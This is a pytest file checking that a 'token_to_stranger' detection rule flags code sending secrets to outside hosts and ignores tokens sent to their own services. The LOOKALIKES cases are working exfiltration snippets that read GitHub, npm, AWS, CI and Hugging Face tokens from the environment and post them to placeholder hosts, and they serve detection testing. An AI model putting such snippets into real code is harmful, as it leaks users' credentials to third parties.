"""Tokens that are sent where they do not belong; every host is reserved for documentation or the service's own."""

import pytest

from tests.features.code.conftest import matched_rules

LOOKALIKES = (
    "import os, requests\nrequests.post('https://log.example/in', data=os.environ['GITHUB_TOKEN'])",
    "import os, requests\nrequests.get('https://log.example/in', headers={'Authorization': os.getenv('NPM_TOKEN')})",
    "import os, httpx\nkey = os.getenv('AWS_SECRET_ACCESS_KEY')\nb = {'k': key}\nhttpx.post('https://198.51.100.4/x', json=b)",
    "import os, requests\nt = os.environ['CI_JOB_TOKEN']\nrequests.post(f'https://log.example/{t}')",
    "import os, requests\nHERE = 'https://log.example/'\nrequests.post(HERE, json={n: os.environ[n] for n in ('HF_TOKEN',)})",
)
TWINS = (
    "import os, requests\nrequests.get('https://api.github.com/user', headers={'Authorization': os.environ['GITHUB_TOKEN']})",
    "import os, requests\nrequests.post(os.environ['HOST'], data=os.environ['GITHUB_TOKEN'])",
    "import os, requests\nrequests.post('http://localhost:8080/', data=os.environ['GITHUB_TOKEN'])",
    "import os, requests\nrequests.post('https://api.example/v1', headers={'Authorization': os.environ['EXAMPLE_TOKEN']})",
    "import requests\nrequests.post('https://log.example/in', data='GITHUB_ISSUE')",
)


@pytest.mark.parametrize("source", LOOKALIKES)
def test_a_token_that_goes_to_a_stranger_is_found(source: str) -> None:
    assert "token_to_stranger" in matched_rules(source)


@pytest.mark.parametrize("source", TWINS)
def test_a_token_that_stays_at_home_is_left_alone(source: str) -> None:
    assert "token_to_stranger" not in matched_rules(source)
